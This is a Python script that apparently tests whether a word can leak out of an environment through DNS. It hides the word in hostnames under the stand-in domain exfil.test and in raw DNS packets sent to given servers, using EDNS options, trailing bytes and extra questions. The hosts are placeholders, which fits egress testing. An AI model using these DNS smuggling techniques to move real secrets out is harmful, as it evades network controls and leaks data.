"""Carries a word out in the names it looks up. argv: the word, then addresses to ask directly."""
import ctypes
import socket
import struct
import subprocess
import sys

print("started", flush=True)
word, servers = sys.argv[1], sys.argv[2:]
names = [word + ".exfil.test", "good.test." + word + ".exfil.test", word + ".good.test", word + "-good.test", "x" + word + ".sub.exfil.test.", word]


def told(what, act):
    try:
        print(what, act())
    except (OSError, subprocess.SubprocessError) as e:
        print(what, e)


for name in names:
    told("getaddrinfo", lambda: socket.getaddrinfo(name, 80))
    told("gethostbyname", lambda: socket.gethostbyname(name))
    told("gethostbyname_ex", lambda: socket.gethostbyname_ex(name))
told("reverse", lambda: socket.gethostbyaddr("203.0.113.77"))
told("getnameinfo", lambda: socket.getnameinfo(("203.0.113.78", 80), socket.NI_NAMEREQD))
told("C", lambda: ctypes.CDLL(None).gethostbyname(names[0].encode()))
told("getent", lambda: subprocess.run(["/usr/bin/getent", "hosts", names[0]], capture_output=True, timeout=30).returncode)


def query(name, kind, number=7):
    head = struct.pack("!6H", number, 0x100, 1, 0, 0, 0)
    return head + b"".join(bytes([len(p)]) + p.encode() for p in name.strip(".").split(".")) + b"\0" + struct.pack("!2H", kind, 1)


def udp(server, packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.05)
    s.sendto(packet, (server, 53))
    return len(s.recv(4096))


def connected(server, packet):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.05)
    s.connect((server, 53))
    s.send(packet)
    return len(s.recv(4096))


def tcp(server, packet):
    s = socket.create_connection((server, 53), 0.5)
    s.sendall(struct.pack("!H", len(packet)) + packet)
    return len(s.recv(4096))


for server in servers:
    for way in udp, connected, tcp:
        for name in names[:2]:
            for kind in 1, 16:
                told("%s %s %d" % (way.__name__, server, kind), lambda: way(server, query(name, kind)))
        # What belongs to a name that may be asked for can carry something, too: its case, its type, its class, what follows the question.
        told("case", lambda: way(server, query("GoOd.TeSt", 1)))
        told("type", lambda: way(server, query("good.test", 16)))
        told("tail", lambda: way(server, query("good.test", 1) + word.encode()))
        told("option", lambda: way(server, query("good.test", 1)[:11] + b"\1" + query("good.test", 1)[12:] + b"\0\0\x29\x10\0\0\0\0\0" +
                                   struct.pack("!3H", 4 + len(word), 65001, len(word)) + word.encode()))
        told("two", lambda: way(server, query("good.test", 1)[:5] + b"\2" + query("good.test", 1)[6:] + query(names[0], 1)[12:]))
